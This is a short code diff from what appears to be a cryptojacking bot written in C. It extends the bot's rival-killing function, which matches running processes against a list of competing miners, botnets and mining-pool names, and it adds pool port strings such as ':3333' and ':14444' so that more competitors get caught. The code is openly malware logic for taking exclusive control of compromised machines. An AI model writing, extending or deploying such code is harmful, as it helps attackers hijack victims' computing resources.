@@ -65,7 +65,7 @@ void sense_send(struct call *call, struct shell_string s, struct bytes to, enum 
 /* Names other miners and bots run under: killing several of them is clearing the ground. */
 static bool is_rival(struct bytes name)
 {
-    static const char *const rivals[] = {"xmr", "kinsing", "kdevtmpfsi", "miner", "masscan", "sysupdate", "networkservice", "crypto", "kswapd0", "stratum", "pnscan", "watchbog", "ddg", "sustes", "kerberods", "watchdogs", "qW3xT", "zzh", "biosetjenkins", "Loopback", "apaceha", "javaupDates", "/tmp/", "suppoie", "sourplum", "nanopool", "monero", "hashvault", "Circle_MI", "kworkerds", "/var/tmp", "sysguard", "dbused", "tsm", "cnrig", "xig", "rocke", "pastebin", "solr.sh", "bashirc", "khugepageds", "kthrotlds", "wnTKYg", "minexmr"};
+    static const char *const rivals[] = {":3333", ":5555", ":7777", ":14444", ":4444", "moneropool", "xmr", "kinsing", "kdevtmpfsi", "miner", "masscan", "sysupdate", "networkservice", "crypto", "kswapd0", "stratum", "pnscan", "watchbog", "ddg", "sustes", "kerberods", "watchdogs", "qW3xT", "zzh", "biosetjenkins", "Loopback", "apaceha", "javaupDates", "/tmp/", "suppoie", "sourplum", "nanopool", "monero", "hashvault", "Circle_MI", "kworkerds", "/var/tmp", "sysguard", "dbused", "tsm", "cnrig", "xig", "rocke", "pastebin", "solr.sh", "bashirc", "khugepageds", "kthrotlds", "wnTKYg", "minexmr"};
     for (size_t i = 0; i < sizeof rivals / sizeof rivals[0]; i++)
         if (bytes_find_fold(name, bytes_of_string(rivals[i]), 0) != BYTES_NPOS)
             return true;
